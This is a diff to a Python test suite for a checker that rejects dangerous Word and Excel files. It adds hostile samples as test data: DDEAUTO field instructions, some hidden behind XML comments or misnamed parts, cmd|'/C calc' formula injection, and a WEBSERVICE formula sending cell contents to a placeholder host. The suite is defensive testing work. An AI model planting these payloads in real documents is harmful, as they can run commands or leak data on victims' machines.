@@ -12,6 +12,7 @@ from guiju.facts.papers.apart import check_attached
 from guiju.facts.papers.producing.apart import fill_in, read_content
 from guiju.facts.papers.producing.content import content_of
 from guiju.facts.papers.producing.filling import TemplateRefused
+from guiju.facts.papers.producing.package import check_template
 from guiju.facts.papers.reaching import check_office
 from guiju.facts.papers.sniffing import PaperRefused, check_paper
 
@@ -30,6 +31,21 @@ def sheet(*parts: tuple[str, str]) -> bytes:
 
 def relations(kind: str, target: str, mode: str = "", prolog: str = "") -> str:
     return f'{prolog}<Relationships><Relationship Type="{RELATION}{kind}" Target="{target}"{mode}/></Relationships>'
+
+
+DDE = (
+    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>'
+    '<w:fldSimple w:instr="DDEAUTO c:/x y"/></w:p></w:body></w:document>'
+)
+
+
+def beside(name: str, text: str) -> bytes:
+    """A Word file with one part more: which one is the text of the document, only the package says."""
+    return with_parts(starter(), lambda parts: parts.update({name: text.encode()}))
+
+
+def formula(said: str) -> bytes:
+    return sheet(("xl/worksheets/sheet1.xml", f"<sheetData><row><c><f>{said}</f></c></row></sheetData>"))
 
 
 @pytest.mark.parametrize(
@@ -51,6 +67,17 @@ def relations(kind: str, target: str, mode: str = "", prolog: str = "") -> str:
         ("docx", lambda: with_parts(starter(), lambda parts: parts.update(
             {TYPES: parts[TYPES].replace(b"document.main+xml", b"document.macroEnabled.main+xml")}
         ))),
+        ("docx", lambda: in_body('<w:p><w:fldSimple w:dirty="true" w:instr="DDEAUTO c:/x y"/></w:p>')),
+        ("docx", lambda: in_body('<w:p><w:r><w:instrText>DDE<!-- x -->AUTO c:/x</w:instrText></w:r></w:p>')),
+        ("docx", lambda: beside("evil/main.xml", DDE)), ("docx", lambda: beside("word/main.dat", DDE)),
+        ("docx", lambda: beside("word/main.png", DDE)), ("docx", lambda: beside("word/content_types.xml", DDE)),
+        ("docx", lambda: beside("word/fonts/font1.odttf", DDE)), ("docx", lambda: beside("word/x.dat", "program")),
+        ("xlsx", lambda: formula('WEBSERVICE("http://example.invalid/"&amp;A1)')),
+        ("xlsx", lambda: formula('_xlfn.IMAGE ("http://example.invalid/a.png")')),
+        ("xlsx", lambda: formula("cmd|'/C calc'!A0")), ("xlsx", lambda: formula("""'a"b'!A1+cmd|'/C x'!A0&amp;"y\"""")),
+        ("xlsx", lambda: formula("WEB<!-- x -->SERVICE(A1)")),
+        ("xlsx", lambda: sheet(("xl/other.xml", "<a><definedName>RTD(A1,,A2)</definedName></a>"))),
+        ("xlsx", lambda: sheet(("xl/link.xml", '<a><ddeLink ddeService="cmd"/></a>'))),
         ("xlsx", lambda: sheet(("xl/_rels/workbook.xml.rels", relations("externalLink", "externalLinks/e.xml")))),
         ("xlsx", lambda: sheet(("xl/_rels/workbook.xml.rels", relations("connections", "connections.xml")))),
         ("xlsx", lambda: sheet(("xl/_rels/workbook.xml.rels", relations("externalLinkPath", "file:///c", EXTERNAL)))),
@@ -89,6 +116,10 @@ def test_a_relation_in_another_coding_is_read_all_the_same():
         )),
         ("docx", lambda: in_body("<w:p><w:r><w:instrText> PAGE </w:instrText></w:r></w:p>")),
         ("xlsx", lambda: sheet(("xl/printerSettings/printerSettings1.bin", "x"))),
+        ("xlsx", lambda: formula('SUM(A1:A3)&amp;"甲|乙 IMAGE(1)"')), ("xlsx", lambda: formula('DISPIMG("ID_1",1)')),
+        ("docx", lambda: beside("customXml/item9.xml", "<a><f>x</f></a>")),
+        ("docx", lambda: beside("word/fonts/font1.odttf", "veiled")),
+        ("docx", lambda: beside("_xmlsignatures/o.sigs", "")),
     ],
 )  # fmt: skip
 def test_an_ordinary_file_is_taken(kind, make):
@@ -128,3 +159,16 @@ def test_a_cell_over_more_columns_than_the_table_has_is_named_as_such():
 def test_a_template_that_is_refused_in_the_process_of_its_own_says_why():
     with pytest.raises(TemplateRefused, match="phone"):
         fill_in(template_saying("{{ phone }}"), declared()["summons"], {})
+
+
+@pytest.mark.parametrize("name", ["evil/main.xml", "word/main.png", "word/fonts/a.odttf", "word/content_types.xml"])
+def test_a_template_is_looked_at_in_every_part_whatever_it_is_called(name):
+    with pytest.raises(PaperRefused):
+        check_template(beside(name, DDE))
+    check_template(starter())
+
+
+def test_the_instruction_of_a_field_in_a_template_is_read_behind_a_comment():
+    hidden = "<w:p><w:r><w:instrText><!-- x -->DDEAUTO c:/x</w:instrText></w:r></w:p>"
+    with pytest.raises(PaperRefused, match="域"):
+        check_template(in_body(hidden))
